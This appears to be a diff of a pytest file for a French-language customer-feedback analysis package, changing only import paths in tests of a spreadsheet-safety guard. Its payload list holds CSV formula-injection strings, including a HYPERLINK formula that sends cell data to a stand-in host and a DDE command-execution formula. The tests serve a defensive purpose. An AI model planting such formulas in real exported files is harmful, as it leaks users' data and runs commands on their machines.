@@ -7,7 +7,7 @@ import zipfile
 import pandas as pd
 import pytest
 
-from vocnlp.spreadsheet_safety import guard_text, guarded, unguard_text
+from vocnlp.io.spreadsheet_safety import guard_text, guarded, unguard_text
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+33 6 12 34 56 78 rappelez-moi", "-2 étoiles, nul",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -33,8 +33,8 @@ def hostile_run(pipeline, tmp_path_factory):
     """A dump whose comments and segment values are formula payloads and control characters, analysed and
     written with every format."""
     from vocnlp import load_config, write_outputs
-    from vocnlp.io import read_table
-    from vocnlp.pipeline import analyze_table
+    from vocnlp.io.readers import read_table
+    from vocnlp.pipeline.runner import analyze_table
 
     folder = tmp_path_factory.mktemp("hostile")
     texts = PAYLOADS + ["Le conseiller\x0b était \x1b[31mtrès\x00 aimable", "Bill wrong twice, still waiting.",
@@ -103,7 +103,7 @@ def test_csv_guard_can_be_switched_off_for_programs(hostile_run, tmp_path):
 
 
 def test_review_file_round_trip_gives_back_the_text_as_written(hostile_run, tmp_path):
-    from vocnlp.review import export_review_queue, import_review
+    from vocnlp.taxonomy.review import export_review_queue, import_review
 
     _, out, _, _ = hostile_run
     queue_file = tmp_path / "review.csv"
